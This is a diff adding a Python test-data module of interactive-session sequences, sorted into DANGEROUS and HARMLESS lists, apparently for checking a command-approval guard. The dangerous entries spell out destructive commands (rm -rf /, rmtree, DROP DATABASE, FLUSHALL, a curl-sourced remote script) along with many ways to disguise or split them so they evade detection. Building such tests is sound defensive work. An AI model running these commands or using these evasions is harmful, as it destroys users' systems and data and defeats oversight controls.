@@ -1,0 +1,211 @@
+"""Interactive sessions: the command that starts a process, and what is written to it, write by write.
+
+In `DANGEROUS`, some write must be asked about or refused; in `HARMLESS`, none may be.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+__all__ = ["DANGEROUS", "HARMLESS", "Sequence"]
+
+
+@dataclass(frozen=True, slots=True)
+class Sequence:
+    command: str
+    writes: tuple[str, ...]
+    pty: bool = False
+
+    def __str__(self) -> str:
+        return f"{self.command}: {' '.join(map(repr, self.writes))[:60]}"
+
+
+def pipe(command: str, *writes: str) -> Sequence:
+    return Sequence(command, writes)
+
+
+def terminal(command: str, *writes: str) -> Sequence:
+    return Sequence(command, writes, pty=True)
+
+
+DANGEROUS = [
+    # Definitions that are used later
+    pipe("bash", "f(){ rm -rf /; }\n", "f\n"),
+    pipe("bash", "alias l='rm -rf'\n", "l /\n"),
+    pipe("bash", "shopt -s expand_aliases\nalias ls='rm -rf /'\n", "ls\n"),
+    pipe("bash", "set -- rm -rf /\n", '"$@"\n'),
+    pipe("bash", "a=rm b=-rf\n", "$a $b /\n"),
+    pipe("bash", "x=(rm -rf)\n", "x+=(/)\n", '"${x[@]}"\n'),
+    pipe("bash", "trap 'rm -rf \"$t\"' EXIT\n", "exit\n"),
+    pipe("bash", "t=/tmp/x/y; trap 'rm -rf $t' DEBUG\n", "t=/\n"),
+    pipe("bash", "PROMPT_COMMAND='rm -rf $HOME'\n"),
+    pipe("bash", "cd /\n", "rm -rf *\n"),
+    pipe("bash", "cd /etc\n", "cd ..\n", "rm -rf *\n"),
+    pipe("bash", "echo 'rm -rf /' > ls\n", "chmod +x ls\n", "PATH=.:$PATH\n", "ls\n"),
+    pipe("bash", "cat > go <<EOF\n", "rm -rf /\n", "EOF\n", "sh go\n"),
+    pipe("bash", "rm -r", "f /\n"),
+    pipe("bash", "rm \\\n", "-rf \\\n", "/\n"),
+    pipe("bash", "for d in / ; do\n", "rm -rf $d\n", "done\n"),
+    pipe("bash", "if true\n", "then\n", "rm -rf /\n", "fi\n"),
+    pipe("bash", "x=$(\n", "rm -rf /\n", ")\n"),
+    pipe("bash", "cd(){ rm -rf /; }\n", "cd src\n"),
+    pipe("bash", "declare -A c; c[go]='rm -rf /'\n", 'eval "${c[go]}"\n'),
+    pipe("bash", "printf -v go '%s -rf /' rm\n", "$go\n"),
+    pipe("bash", "eval() { rm -rf /; }\n", "eval x\n"),
+    pipe("bash", "export X=/\n", "bash -c 'rm -rf $X'\n"),
+    pipe("bash", "hash -p /bin/rm ls\n", "ls -rf /\n"),
+    pipe("bash", "read x\n", "rm\n", "$x -rf /\n"),
+    pipe("bash", "fc -s rm\n"),
+    pipe("bash", "source <(curl -s http://example.com/x)\n"),
+    pipe("cd / && bash", "rm -rf *\n"),
+    pipe("X=/ bash", 'rm -rf "$X"\n'),
+    pipe("env -i bash --norc", "f() {\n", "rm -rf /; }\n", "f\n"),
+    pipe("bash", "curl -o /tmp/e/ls http://example.com/e\n", "PATH=/tmp/e:$PATH\n", "ls\n"),
+    # Text that is broken, unfinished or taken by another program hides nothing
+    pipe("bash", "echo )\n", "rm -rf /\n"),
+    pipe("bash", "head -1\n", "'\n", "rm -rf /\n"),
+    pipe("bash", "head -1\n", "'\n", "rm -rf \\\n", "/\n"),
+    pipe("bash", "d=/\n", "head -1\n", "d=/tmp/x/y\n", "rm -rf $d\n"),
+    pipe("bash", "a=rm\n", "cat\n", "a=ls\n", "$a -rf /\n"),
+    pipe("bash", "psql -h nowhere\n", "rm -rf /\n"),
+    pipe("bash", "python3\n", "d='/tmp/x'\n", "exit()\n", "rm -rf $d\n"),
+    pipe("sh", "f(a) {\n", "f\n"),
+    # Programs in programs
+    pipe("bash", "python3\n", "import shutil\n", "shutil.rmtree('/')\n"),
+    pipe("bash", "bash\n", "sh\n", "python3\n", "import os\n", "os.system('rm -rf /')\n"),
+    pipe("bash", "python3\n", "exit()\n", "rm -rf /\n"),
+    pipe("bash", "python3\n", "exit = print\n", "exit()\n", "import shutil; shutil.rmtree('/')\n"),
+    pipe("bash", "psql app\n", "DROP TABLE users;\n"),
+    pipe("bash", "psql app\n", "\\q\n", "rm -rf /\n"),
+    pipe("bash", "ssh host\n", "rm -rf /\n"),
+    pipe("ssh host", "cd /\n", "rm -rf *\n"),
+    pipe("docker exec -it x sh", "psql\n", "drop database prod;\n"),
+    pipe("docker run -it ubuntu", "f() { rm -rf /; }; f\n"),
+    pipe("sudo -i", "cd /etc\n", "rm -rf *\n"),
+    pipe("python3", "import os\n", "os.system('bash')\n", "rm -rf /\n"),
+    pipe("python3", "import pty; pty.spawn('/bin/bash')\n", "f() { rm -rf /; }\n", "f\n"),
+    pipe("psql app", "\\!\n", "rm -rf /\n"),
+    pipe("gdb ./a", "shell\n", "rm -rf /\n"),
+    pipe("bash", "f() { python3; }\n", "f\n", "import shutil\n", "shutil.rmtree('/')\n"),
+    pipe("sudo env A=1 nice bash", "x=/\n", "rm -rf $x\n"),
+    pipe("cat | bash", "f(){ rm -rf /; }\n", "f\n"),
+    pipe("python3; bash", "exit()\n", "rm -rf /\n"),
+    # Other languages
+    pipe("python3", "import shutil as s\n", "s.rmtree('/')\n"),
+    pipe("python3", "this is not python\n", "import shutil as s\n", "s.rmtree('/')\n"),
+    pipe("python3", "from os import system as s\n", "c = 'rm -rf'\n", "s(c + ' /')\n"),
+    pipe("python3", "def f():\n", "    import shutil\n", "    shutil.rmtree('/')\n", "\n", "f()\n"),
+    pipe("python3 -i", "import subprocess\n", "subprocess.run(['rm', '-rf', '/'])\n"),
+    pipe("ipython", "!rm -rf /\n"),
+    pipe("ipython", "%sx rm -rf /\n"),
+    pipe("python3 -m pdb x.py", "!import os; os.system('rm -rf /')\n"),
+    pipe("python3 manage.py shell", "import shutil\n", "shutil.rmtree('/')\n"),
+    pipe("irb", "FileUtils.rm_rf '/'\n"),
+    pipe("irb", "require 'fileutils'\n", "include FileUtils\n", "rm_rf '/'\n"),
+    pipe("rails console", "system('rm -rf /')\n"),
+    pipe("node", "const fs = require('fs')\n", "fs.rmSync('/', {recursive: true})\n"),
+    pipe("node", "const {execSync} = require('child_process')\n", "execSync('rm -rf /')\n"),
+    pipe("perl -de0", "system('rm -rf /')\n"),
+    pipe("lua", "os.execute('rm -rf /')\n"),
+    pipe("R", "unlink('/', recursive=TRUE)\n"),
+    pipe("php -a", "system('rm -rf /');\n"),
+    pipe("psql app", "DROP TABLE users;\n"),
+    pipe("psql app", "DROP\n", "TABLE\n", "users;\n"),
+    pipe("psql app", "\\echo it's\n", "DROP\n", "TABLE users;\n"),
+    pipe("psql app", "DELETE FROM users", ";\n"),
+    pipe("psql app", "\\! rm -rf /\n"),
+    pipe("mysql -u root", "DROP DATABASE prod;\n"),
+    pipe("mysql", "system rm -rf /\n"),
+    pipe("sqlite3 app.db", "DROP TABLE users;\n"),
+    pipe("sqlite3 app.db", ".shell rm -rf /\n"),
+    pipe("redis-cli", "FLUSHALL\n"),
+    pipe("redis-cli -h cache", "FLUSH", "ALL\n"),
+    pipe("mongosh", "db.dropDatabase()\n"),
+    pipe("gdb ./a", "shell rm -rf /\n"),
+    pipe("gdb ./a", "python import shutil; shutil.rmtree('/')\n"),
+    pipe("ed notes.txt", "!rm -rf /\n"),
+    terminal("vim notes.txt", ":!rm -rf /\r"),
+    terminal("less notes.txt", "!rm -rf /\r"),
+    pipe("sftp host", "!rm -rf /\n"),
+    pipe("dc", "!rm -rf /\n"),
+    pipe("fdisk /dev/sda", "w\n"),
+    # Terminals
+    terminal("bash", "!rm\r"),
+    terminal("bash", "!!\r"),
+    terminal("bash", "^ls^rm -rf /\r"),
+    terminal("bash", "rm -rf /tmp/x/y" + "\x7f" * 7 + "\r"),
+    terminal("bash", "echo hi\x15rm -rf /\r"),
+    terminal("bash", "\x1b[A\r"),
+    terminal("bash", "\x12rm\r"),
+    terminal("bash", "rm -r\t/\r"),
+    terminal("bash", 'echo "\r', "\x03", "rm -rf /\r", '"\r'),
+    terminal("bash", "echo '\r", "\x03rm -rf /\r"),
+    terminal("bash", "python3\r", "\x04", "rm -rf /\r"),
+    terminal("bash", "ls\x16\x03\r"),
+    terminal("bash", "\x1b[200~ls\x1b[201~\r"),
+    # Programs that are not known to be interpreters
+    pipe("cat", "rm -rf /\n"),
+    pipe("./console", "f(){ rm -rf /; }\n", "f\n"),
+    pipe("./console", "DROP TABLE users;\n"),
+    pipe("nc host 4444", "rm -rf /\n"),
+]
+
+HARMLESS = [
+    pipe("bash", "ls -la\n", "cd src\n", "git status\n", "make test\n", "exit\n"),
+    pipe("bash", "x=1\n", 'echo "$x"\n', "export PORT=8000\n"),
+    pipe("bash", "for f in *.py; do\n", "  wc -l $f\n", "done\n"),
+    pipe("bash", "greet() {\n", "  echo hello $1\n", "}\n", "greet you\n"),
+    pipe("bash", "cat > notes.txt <<EOF\n", "it's a note\n", "EOF\n", "cat notes.txt\n"),
+    pipe("bash", "if [ -f x ]; then\n", "echo yes\n", "fi\n"),
+    pipe("bash", "mkdir -p build && cd build\n", "cmake ..\n", "make -j4\n"),
+    pipe("bash", "python3 -m venv .venv\n", ". .venv/bin/activate\n", "pip install requests\n"),
+    pipe("bash", "export PATH=$HOME/.local/bin:$PATH\n", "ls\n"),
+    pipe("bash", "echo one", " two\n"),
+    pipe("bash", "npm init\n", "my-package\n", "1.0.0\n", "\n", "MIT\n", "yes\n"),
+    pipe("bash", "trap 'echo bye' EXIT\n", "true\n", "exit\n"),
+    pipe("bash", "alias ll='ls -l'\n", "ll\n"),
+    pipe("bash", "python3\n", "print('hi')\n", "x = [1, 2]\n", "exit()\n", "ls\n"),
+    pipe("bash", "psql app\n", "SELECT count(*) FROM users;\n", "\\q\n", "ls\n"),
+    pipe("bash", "node\n", "const x = 5;\n", "x * 2\n", ".exit\n", "pwd\n"),
+    pipe("bash", "ssh host\n", "uptime\n", "df -h\n", "exit\n", "ls\n"),
+    pipe("bash", "docker exec -it web sh\n", "ls /app\n", "exit\n"),
+    pipe("bash", "sqlite3 app.db\n", ".tables\n", "SELECT * FROM t;\n", ".quit\n", "ls\n"),
+    terminal("bash", "ls\r", "cd src\r", "git log --oneline\r", "exit\r"),
+    terminal("bash", "lss\x7f -l\r", "pwd\r"),
+    terminal("bash", "sleep 100\r", "\x03", "ls\r"),
+    terminal("bash", 'echo "done!"\r', "[ 1 != 2 ] && echo ok\r"),
+    terminal("bash", "python3\r", "1 + 1\r", "\x04", "ls\r"),
+    pipe("python3", "import json\n", "d = json.loads('{\"a\": 1}')\n", "print(d['a'])\n"),
+    pipe("python3 -i", "def f(x):\n", "    return x * 2\n", "\n", "f(21)\n"),
+    pipe("python3 -i", "for i in range(3):\n", "    print(i)\n", "\n"),
+    pipe("python3 -i", "x = 1 +\n", "x = 1\n", "x\n"),
+    pipe("python3", "text = '''\n", "it's fine\n", "'''\n", "print(text)\n"),
+    terminal("python3", "import os\r", "os.getcwd()\r", "exit()\r"),
+    pipe("ipython", "import pandas as pd\n", "df = pd.read_csv('a.csv')\n", "df.head()\n"),
+    pipe("python3 -m pdb x.py", "b 10\n", "c\n", "p x\n", "n\n", "q\n"),
+    pipe("psql app", "\\dt\n", "SELECT *\n", "FROM users\n", "WHERE id = 1;\n"),
+    pipe("psql app", "INSERT INTO t (a) VALUES ('it''s');\n", "SELECT 1;\n"),
+    pipe("psql app", "\\d users\n", "EXPLAIN SELECT 1;\n", "\\q\n"),
+    pipe("mysql app", "SHOW TABLES;\n", "SELECT * FROM t LIMIT 5;\n", "exit\n"),
+    pipe("sqlite3 app.db", ".schema\n", "SELECT * FROM t;\n", ".quit\n"),
+    pipe("redis-cli", "GET a\n", "SET b 1\n", "KEYS *\n", "quit\n"),
+    pipe("node", "const x = 5\n", "x + 1\n", "[1, 2].map(n => n * 2)\n", ".exit\n"),
+    pipe("irb", "x = 5\n", "puts x\n", "[1, 2].sum\n", "exit\n"),
+    pipe("gdb ./a", "break main\n", "run\n", "bt\n", "print x\n", "next\n", "quit\n", "y\n"),
+    pipe("mongosh", "show dbs\n", "use app\n", "db.users.findOne()\n", "exit\n"),
+    pipe("lua", "x = 5\n", "print(x)\n"),
+    pipe("bc", "2 + 2\n", "scale = 3\n", "10 / 3\n", "quit\n"),
+    pipe("npm init", "my-package\n", "1.0.0\n", "A description\n", "index.js\n", "\n", "MIT\n", "yes\n"),
+    pipe("git add -p", "y\n", "n\n", "s\n", "q\n"),
+    pipe("sudo apt install ripgrep", "y\n"),
+    pipe("ssh host", "ls\n", "cd app\n", "git pull\n", "exit\n"),
+    pipe("cat", "hello\n", "it's me\n", "world\n"),
+    pipe("cat > out.txt", "a line\n", "another (with brackets)\n"),
+    pipe("npm run dev", "r\n", "h\n", "q\n"),
+    pipe("./manage.py createsuperuser", "admin\n", "admin@example.com\n"),
+    pipe("read x; echo $x", "now\n"),
+    pipe("sftp host", "ls\n", "cd incoming\n", "get report.pdf\n", "bye\n"),
+    pipe("ed notes.txt", "a\n", "a new line\n", ".\n", "w\n", "q\n"),
+    pipe("fish", "ls\n", "cd src\n", "git status\n"),
+    pipe("docker run -it python:3 python", "print(1)\n", "exit()\n"),
+]
